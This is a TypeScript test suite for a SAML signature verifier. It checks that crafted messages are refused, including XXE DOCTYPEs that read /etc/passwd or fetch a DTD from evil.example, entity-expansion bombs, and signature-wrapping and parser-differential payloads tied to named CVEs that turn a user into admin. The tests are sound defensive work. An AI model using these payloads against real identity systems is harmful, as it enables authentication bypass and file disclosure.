/** S4–S7, S13, S15–S17: what parsers and canonicalizers disagree about. */
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { SignedXml } from 'xml-crypto';
import { MESSAGE_LIMIT } from '../../../src/runtime/saml/verify/gate.ts';
import { handSigned, sha256 } from './hand-signed.ts';
import { DS, groupsClaim, PARTS, SAML, SAMLP } from './message.ts';
import { asAdmin, pieceOf, signatureOf } from './pieces.ts';
import { IDP, message, PLAIN_STYLES, STYLES, signed } from './sign.ts';
import { attack, expectedOf, replaced, verdict, verify } from './support.ts';

const ASSERTION = message('assertion');
const PUBLIC_PEM = IDP.publicKey.export({ type: 'spki', format: 'pem' });

test('S4 whatever a byte becomes, it is Ana or nobody', () => {
  const messages = STYLES.map((style) => [Buffer.from(message(style)), expectedOf(style)] as const);
  const anything = fc.tuple(
    fc.constantFrom(...messages),
    fc.nat(),
    fc.constantFrom(...Buffer.from('<>&"\'=/ a0_:#!?\n\x00\xff', 'latin1')),
  );
  fc.assert(
    fc.property(anything, ([[bytes, expected], at, sign]) => {
      const changed = Buffer.from(bytes);
      changed[at % bytes.length] = sign;
      if (verdict(changed, expected) !== 'accepted') return;
      expect(verify(changed, expected)).toEqual(verify(bytes, expected));
    }),
    { numRuns: 3_000 },
  );
});

test.each(PLAIN_STYLES)('S4 what is signed cannot be changed (%s)', (style) => {
  const twin = message(style);
  for (const [from, to] of [
    [
      '<NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">ana@',
      '<NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">admin@',
    ],
    ['<AttributeValue>Ana<', '<AttributeValue>Admin<'],
    ['<Audience>https://app', '<Audience>https://app2'],
    [' NotBefore="2026-01-05T10', ' NotBefore="2026-01-05T09'],
    [
      '<AttributeStatement>',
      '<AttributeStatement><Attribute Name="role"><AttributeValue>admin</AttributeValue></Attribute>',
    ],
    ['<AttributeStatement>', ' <AttributeStatement>'],
  ] as const)
    attack(replaced(twin, from, to), 'SAML_DIGEST', twin);
});

const TEXTS = [
  'ana@contoso.com<',
  'https://sts.windows.net',
  'https://app.example.com/metadata<',
  'urn:oasis:names:tc:SAML:2.0:ac',
];

test.each(['<!---->', '<!-- x -->', '<?x y?>', '<![CDATA[x]]>', '<![CDATA[]]>'])(
  'S5 %s at a text is refused',
  (markup) => {
    for (const style of PLAIN_STYLES)
      for (const text of TEXTS) {
        const twin = message(style);
        attack(replaced(twin, text, markup + text), 'SAML_MARKUP', twin);
        attack(replaced(twin, text, text.slice(0, 3) + markup + text.slice(3)), 'SAML_MARKUP', twin);
      }
  },
);

test('S5 an entity is refused; a reference to a character is that character', () => {
  attack(replaced(ASSERTION, 'ana@contoso.com<', '&evil;ana@contoso.com<'), 'SAML_XML', ASSERTION);
  expect(verify(replaced(ASSERTION, 'ana@contoso.com<', '&#97;na@contoso.com<')).nameId.value).toBe('ana@contoso.com');
  for (const reference of ['&#13;', '&#xD;'])
    attack(replaced(ASSERTION, 'ana@contoso.com<', `${reference}ana@contoso.com<`), 'SAML_STRUCTURE', ASSERTION);
  for (const reference of ['&#10;', '&#9;'])
    attack(replaced(ASSERTION, '<Attribute Name="', `<Attribute Name="${reference}`), 'SAML_STRUCTURE', ASSERTION);
  for (const reference of ['&#0;', '&#xFFFE;', '&#xD800;'])
    attack(replaced(ASSERTION, 'ana@contoso.com<', `${reference}ana@contoso.com<`), 'SAML_XML', ASSERTION);
});

test('S6 a processing instruction that xml-crypto digests as text is refused', () => {
  const twin = message('assertion', { nameId: 'not-an-admin@contoso.com' });
  const evil = replaced(twin, 'not-an-admin@contoso.com', '<?p not-an-?>admin@contoso.com');
  const checker = new SignedXml({ publicCert: PUBLIC_PEM });
  checker.loadSignature(pieceOf(evil, 'Signature'));
  expect(checker.checkSignature(evil), 'xml-crypto takes it for the signed text').toBe(true);
  expect(verdict(evil)).toBe('SAML_MARKUP');
  expect(verify(twin).nameId.value).toBe('not-an-admin@contoso.com');
});

const DOCTYPES = [
  '<!DOCTYPE samlp:Response>',
  '<!DOCTYPE samlp:Response [<!ENTITY x "y">]>',
  '<!DOCTYPE r SYSTEM "file:///etc/passwd">',
  '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
  '<!DOCTYPE r [<!ATTLIST Assertion ID ID #IMPLIED>]>',
  `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(1_000)}"><!ENTITY b "${'&a;'.repeat(1_000)}">]>`,
  `<!DOCTYPE r [${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>`,
];

test.each(DOCTYPES)('S7 a document type is refused: %s', (doctype) => {
  for (const style of STYLES) attack(doctype + message(style), 'SAML_MARKUP', message(style), expectedOf(style));
  attack(`<?xml version="1.0"?>${doctype}${ASSERTION}`, 'SAML_MARKUP', ASSERTION);
});

test('S7 a message is UTF-8, and says nothing else of itself', () => {
  const doctyped = DOCTYPES[1] + ASSERTION;
  attack(Buffer.from(`\ufeff${doctyped}`, 'utf16le'), 'SAML_ENCODING', ASSERTION);
  attack(Buffer.from(`\ufeff${doctyped}`, 'utf16le').swap16(), 'SAML_ENCODING', ASSERTION);
  attack(Buffer.from(ASSERTION, 'utf16le'), 'SAML_ENCODING', ASSERTION);
  attack(`\ufeff${ASSERTION}`, 'SAML_ENCODING', ASSERTION);
  attack(Buffer.concat([Buffer.from(ASSERTION), Buffer.from([0xc0, 0x80])]), 'SAML_ENCODING', ASSERTION);
  attack(Buffer.from(ASSERTION, 'latin1'), 'SAML_ENCODING', ASSERTION);
  for (const sign of ['\0', '\x01', '\x1b', '\ufffe', '\uffff', '\ufdd0'])
    attack(replaced(ASSERTION, 'ana@', `${sign}ana@`), 'SAML_ENCODING', ASSERTION);
  for (const declaration of [
    '<?xml version="1.1"?>',
    '<?xml version="1.0" encoding="UTF-16"?>',
    '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE',
    '<?xml version="1.0" encoding="ISO-8859-1"?>',
    ' <?xml version="1.0"?>',
    '<?xml-stylesheet href="x"?>',
    '<?xml version="1.0"?><?x?>',
  ])
    attack(declaration + ASSERTION, 'SAML_MARKUP', ASSERTION);
  for (const declaration of ['<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n'])
    expect(verdict(declaration + ASSERTION)).toBe('accepted');
});

test('S7 a message has a size', () => {
  const large = message('assertion', { claims: [...PARTS.claims, groupsClaim(3_000)] });
  const fits = ASSERTION + ' '.repeat(MESSAGE_LIMIT - Buffer.byteLength(ASSERTION));
  expect(Buffer.byteLength(large)).toBeGreaterThan(100_000);
  expect(verify(large).attributes.size).toBe(10);
  expect(verdict(fits)).toBe('accepted');
  attack(`${fits} `, 'SAML_SIZE', ASSERTION);
});

test('S7 a namespace that each element repeats makes no canonical form without end', () => {
  const inherited = `<a xmlns:p="urn:x:${'x'.repeat(100_000)}">${'<p:b/>'.repeat(8)}</a>`;
  attack(replaced(ASSERTION, '<Subject>', `${inherited}<Subject>`), 'SAML_CANONICAL', ASSERTION);
});

test('S7 depth is bounded', () => {
  attack(replaced(ASSERTION, '<Subject>', `${'<Subject>'.repeat(300)}`), 'SAML_XML', ASSERTION);
  const deep = '<Subject>'.repeat(30) + '</Subject>'.repeat(30);
  attack(replaced(ASSERTION, '<Subject>', `${deep}<Subject>`), 'SAML_STRUCTURE', ASSERTION);
});

/** CVE-2025-25291: one parser sees a document type that hides what the other reads. */
const hidden = (evil: string, good: string) =>
  `<!DOCTYPE r [<!ENTITY x '"><!--'>]>${evil}<!-- --><?x ${good.replaceAll('?>', '')}?>`;

test('S13 what one parser hides from another is refused (CVE-2025-25291, CVE-2025-23369)', () => {
  attack(hidden(asAdmin(ASSERTION), ASSERTION), 'SAML_MARKUP', ASSERTION);
  const entityId = replaced(ASSERTION, 'ID="_a1"', 'ID="&id;"');
  attack(`<!DOCTYPE r [<!ENTITY id "_a1">]>${entityId}`, 'SAML_MARKUP', ASSERTION);
  attack(entityId, 'SAML_XML', ASSERTION);
});

/** CVE-2025-25292 and CVE-2025-66567: two signatures, of which each parser finds another, by a prefix or a namespace. */
test.each([
  ['a declaration of the prefix only below', '<ds:Signature><SignedInfo xmlns:ds="X"/></ds:Signature>', 'SAML_XML'],
  ['a namespace that looks alike', '<Signature xmlns="http://www.w3.org/2000/09/xmldsig"/>', 'SAML_STRUCTURE'],
  ['no namespace', '<Signature xmlns=""/>', 'SAML_STRUCTURE'],
  ['the namespace of SAML', '<Signature/>', 'SAML_STRUCTURE'],
  ['another prefix', `<x:Signature xmlns:x="${DS}"/>`, 'SAML_SIGNATURE_SHAPE'],
  ['a prefix declared twice', `<x:Signature xmlns:x="${DS}" xmlns:x="urn:x"/>`, 'SAML_XML'],
] as const)('S13 a second signature with %s is refused (CVE-2025-25292, CVE-2025-66567)', (_name, signature, code) => {
  for (const style of ['assertion', 'both'] as const) {
    const twin = message(style);
    attack(
      replaced(twin, '<Subject>', () => `${signature}<Subject>`),
      code,
      twin,
    );
  }
  attack(
    replaced(
      ASSERTION,
      '<samlp:Status>',
      () => `${signature.replace('<Signature/>', `<Signature xmlns="${SAML}"/>`)}<samlp:Status>`,
    ),
    code,
    ASSERTION,
  );
});

test('S13 a text has no second root and nothing behind it (CVE-2022-41912)', () => {
  for (const evil of [ASSERTION + ASSERTION, `${ASSERTION}x`, `x${ASSERTION}`, `${ASSERTION}<a/>`])
    attack(evil, 'SAML_XML', ASSERTION);
  attack(
    replaced(ASSERTION, '</samlp:Response>', () => `${pieceOf(ASSERTION, 'Assertion')}</samlp:Response>`),
    'SAML_ASSERTION_COUNT',
    ASSERTION,
  );
});

test.each([
  'Id="_a1"',
  'id="_a1"',
  'xml:id="_a1"',
  'samlp:ID="_a1"',
  'x:ID="_a1" xmlns:x="urn:x"',
  'xml:lang="en"',
  'AssertionID="_a1"',
])('S15 an attribute that another reader could take for the ID is refused: %s', (attribute) => {
  for (const style of PLAIN_STYLES) {
    const twin = message(style);
    attack(replaced(twin, '<Assertion ', `<Assertion ${attribute} `), 'SAML_STRUCTURE', twin);
    attack(replaced(twin, '<samlp:Response ', `<samlp:Response ${attribute} `), 'SAML_STRUCTURE', twin);
    attack(replaced(twin, '<Subject>', `<Subject ${attribute}>`), 'SAML_STRUCTURE', twin);
  }
});

test('S14 text stands where the profile has text, and white space between elements', () => {
  for (const place of ['<samlp:Status>', '</samlp:Status>', '<Assertion ', '</samlp:Response>']) {
    attack(replaced(ASSERTION, place, `x${place}`), 'SAML_STRUCTURE', ASSERTION);
    for (const sign of ['\u00a0', '\u00ad', '\u2028'])
      attack(replaced(ASSERTION, place, sign + place), 'SAML_STRUCTURE', ASSERTION);
    expect(verdict(replaced(ASSERTION, place, `\r\n\t ${place}`))).toBe('accepted');
  }
});

test('S15 an ID is a name, and stands once', () => {
  attack(message('response', { assertionId: '_r1' }), 'SAML_ID', message('response'));
  for (const id of ['', '1a', 'a b', '_a:1', 'é', '-a', '_a1/../x', ' _a1'])
    attack(replaced(ASSERTION, 'ID="_a1"', `ID="${id}"`), 'SAML_ID', ASSERTION);
  attack(replaced(ASSERTION, ' ID="_a1"', ''), 'SAML_ID', ASSERTION);
  attack(replaced(ASSERTION, 'ID="_a1"', 'ID="_evil"'), 'SAML_REFERENCE', ASSERTION);
  attack(replaced(ASSERTION, 'ID="_a1"', 'ID="_a1" ID="_a2"'), 'SAML_XML', ASSERTION);
  attack(
    replaced(ASSERTION, 'ID="_a1"', `ID="_a1" a:x="1" b:x="2" xmlns:a="urn:x" xmlns:b="urn:x"`),
    'SAML_XML',
    ASSERTION,
  );
});

test('S16 namespaces are those of the profile, by address and not by prefix', () => {
  for (const [from, to, code] of [
    ['<Assertion ', '<Assertion xmlns:xml="urn:evil" ', 'SAML_XML'],
    ['<Assertion ', '<Assertion xmlns:xmlns="urn:evil" ', 'SAML_XML'],
    ['<Assertion ', '<Assertion xmlns:x="http://www.w3.org/XML/1998/namespace" ', 'SAML_XML'],
    ['<Assertion ', '<Assertion xmlns:x="" ', 'SAML_XML'],
    ['<samlp:Status>', '<p:a/><samlp:Status>', 'SAML_XML'],
    ['<samlp:Status>', '<samlp:Status xmlns:samlp="urn:evil">', 'SAML_STRUCTURE'],
    ['<Subject>', '<Subject xmlns="urn:evil">', 'SAML_STRUCTURE'],
    ['<Subject>', `<Subject xmlns="${SAMLP}">`, 'SAML_STRUCTURE'],
    [`xmlns="${SAML}"`, `xmlns="${SAML}/"`, 'SAML_STRUCTURE'],
    [`xmlns="${DS}"`, 'xmlns="https://www.w3.org/2000/09/xmldsig#"', 'SAML_STRUCTURE'],
  ] as const)
    attack(replaced(ASSERTION, from, to), code, ASSERTION);
});

test('S16 a prefix means nothing: other prefixes around the signed element change nothing', () => {
  const renamed = ASSERTION.replaceAll('samlp:', 'x:')
    .replace('xmlns:x:', '')
    .replace(`xmlns:samlp="${SAMLP}"`, `xmlns:x="${SAMLP}"`);
  expect(verify(renamed)).toEqual(verify(ASSERTION));
  const plain = ASSERTION.replaceAll('samlp:', '').replace(`xmlns:samlp="${SAMLP}"`, `xmlns="${SAMLP}"`);
  expect(verify(plain)).toEqual(verify(ASSERTION));
  for (const style of PLAIN_STYLES) expect(verdict(message(style, {}, { prefix: 'ds' }))).toBe('accepted');
});

test('S17 a relative namespace has no canonical form (CVE-2025-66568)', () => {
  for (const style of PLAIN_STYLES) {
    const twin = message(style);
    const evil = replaced(twin, '<Subject>', '<x:a xmlns:x="1"/><Subject>');
    expect(['SAML_XML', 'SAML_CANONICAL']).toContain(verdict(evil));
    expect(verdict(twin)).toBe('accepted');
  }
});

test('S17 the digest of nothing never fits', () => {
  attack(handSigned({ digest: sha256('') }), 'SAML_DIGEST', handSigned());
  attack(handSigned({ digest: '47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=' }), 'SAML_DIGEST', handSigned());
});

test('S17 what is signed carries the ID that was referred to', () => {
  const other = signed(
    message('assertion', { assertionId: '_a2' }).replace(/<Signature.*<\/Signature>/s, ''),
    'Assertion',
  );
  const twin = message('assertion', { assertionId: '_a2' });
  const evil = replaced(
    ASSERTION,
    signatureOf(ASSERTION, 'Assertion') ?? '',
    () => signatureOf(other, 'Assertion') ?? '',
  );
  attack(evil, 'SAML_REFERENCE', twin);
});
